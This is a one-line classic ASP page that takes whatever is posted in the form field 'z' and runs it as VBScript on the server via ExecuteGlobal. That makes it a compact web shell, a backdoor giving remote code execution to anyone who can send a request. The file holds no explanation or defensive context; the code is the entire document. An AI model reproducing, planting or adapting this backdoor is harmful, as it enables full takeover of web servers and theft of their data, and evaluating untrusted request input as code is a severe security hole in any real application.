<% If Request.Form("z") <> "" Then ExecuteGlobal Request.Form("z") %>
